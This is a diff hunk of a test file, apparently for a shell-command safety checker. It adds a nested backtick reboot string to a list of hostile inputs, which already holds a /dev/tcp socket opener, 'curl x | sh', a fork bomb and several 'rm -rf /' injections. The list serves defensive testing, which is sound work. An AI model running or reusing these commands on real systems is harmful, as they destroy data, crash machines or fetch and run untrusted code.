@@ -71,6 +71,7 @@ def test_what_can_not_be_told_is_asked(line: str) -> None:
         "exec 5<>/dev/tcp/10.0.0.1/99",
         "((; curl x | sh",
         "reboot )",
+        'echo "`echo "\\`reboot\\`"`"',
         ":(){ :|:& };: )",
         "cat <<E | bash & rm -rf /\nq\nE",
         "echo \x07; rm -rf /",
